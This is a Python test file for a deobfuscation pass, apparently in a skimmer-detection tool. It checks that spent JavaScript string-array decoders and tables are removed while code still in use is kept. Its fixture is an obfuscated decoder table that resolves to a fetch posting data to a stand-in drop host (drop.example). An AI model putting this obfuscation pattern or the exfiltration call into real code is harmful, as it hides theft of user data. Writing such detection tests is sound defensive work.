"""unused: spent decoders, tables and proxies go once nothing else uses them; the rest stays."""

from skimscan.analyze.deobfuscate import decoders, proxy_functions, unused
from tests.deobfuscate.helpers import clean, flat, rewrite

TABLE = """
function _arr() { var a = ['send', 'https://drop.example/g']; _arr = function () { return a; };
  return _arr(); }
function _dec(i) { var a = _arr(); return a[i] + ''.split('').map(function (c) {
  return c.charCodeAt(0) ^ 7; }).join(''); }
(function (get, n) { var a = get(); while (--n) a.push(a.shift()); })(_arr, 2);
"""


def test_a_decoder_its_table_and_rotation_go_together() -> None:
    out = flat(clean(TABLE + "fetch(_dec(0), {body: d});", decoders, unused))
    assert out == 'fetch("https://drop.example/g", {body: d});'


def test_a_decoder_still_called_somewhere_stays() -> None:
    out = flat(clean(TABLE + "fetch(_dec(0)); var x = _dec(k);", decoders, unused))
    assert "function _dec(i)" in out and "function _arr()" in out


def test_ordinary_unused_code_stays() -> None:
    code = "function helper(a) { return a + 1; } var cfg = {k: 1}; function p(a) { return a; }"
    assert flat(clean(code, proxy_functions, unused)) == flat(code).replace(
        "{ return a + 1; }", "{ return a + 1; }")


def test_machinery_still_in_use_is_counted_as_left_encoded() -> None:
    """A call whose argument is known only at run time keeps the decoder: what it returns
    there may be a method's or a host's name, so the rewrite says it left something."""
    assert rewrite(TABLE + "fetch(_dec(0), {body: d});", decoders, unused).left_encoded == 0
    assert rewrite(TABLE + "fetch(_dec(0)); var x = _dec(k);", decoders, unused).left_encoded > 0


def test_nothing_is_left_encoded_where_nothing_was_spent() -> None:
    code = "function helper(a) { return a + 1; } helper(k);"
    assert rewrite(code).left_encoded == 0
